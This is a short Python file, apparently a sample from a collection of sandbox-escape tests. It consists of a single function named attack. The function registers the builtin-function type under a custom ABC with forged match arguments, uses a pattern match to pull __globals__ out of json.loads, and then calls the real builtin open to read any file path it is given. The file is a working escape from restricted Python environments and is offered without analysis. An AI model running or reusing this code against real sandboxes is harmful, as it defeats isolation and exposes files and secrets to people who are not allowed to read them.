# The names are set when the class is there.
# after: read
# source: own
import json
from abc import ABC
class U(ABC):
    pass
def attack(path, **_):
    setattr(U, "__match_args__", ("__globals__",))
    U.register(type(json.loads))
    match json.loads:
        case U(found):
            return {"text": found["__builtins__"]["open"](path).read()}
